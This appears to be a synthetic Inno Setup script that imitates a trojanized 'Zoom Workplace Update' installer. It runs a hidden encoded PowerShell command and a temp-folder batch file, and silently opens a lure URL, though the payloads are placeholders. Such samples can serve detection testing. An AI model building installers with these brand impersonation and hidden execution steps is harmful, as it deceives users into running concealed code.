[Setup]
AppName=Zoom Workplace Update
AppVersion=6.1
AppPublisher=Nobody at all
DefaultDirName={autopf}\Inert
OutputDir=Z:\b\out
OutputBaseFilename=NAME
Compression=COMP
SolidCompression=yes
PrivilegesRequired=lowest
[Files]
Source: "readme.txt"; DestDir: "{app}"
Source: "inert.exe"; DestDir: "{app}"
Source: "numbers.txt"; DestDir: "{app}\sub"
Source: "run.bat"; DestDir: "{tmp}"
[Icons]
Name: "{userdesktop}\Zoom Start"; Filename: "{app}\readme.txt"
[Registry]
Root: HKCU; Subkey: "Software\Inert"; ValueType: string; ValueName: "a"; ValueData: "b"
[Run]
Filename: "powershell.exe"; Parameters: "-w hidden -enc SQBuAGUAcgB0AA=="; Flags: runhidden
Filename: "{cmd}"; Parameters: "/c ""{tmp}\run.bat"""; StatusMsg: "Getting ready"
[Code]
function InitializeSetup(): Boolean;
var R: Integer;
begin
  Exec('cmd.exe', '/c start https://lure.invalid/x', '', SW_HIDE, ewNoWait, R);
  Result := True;
end;
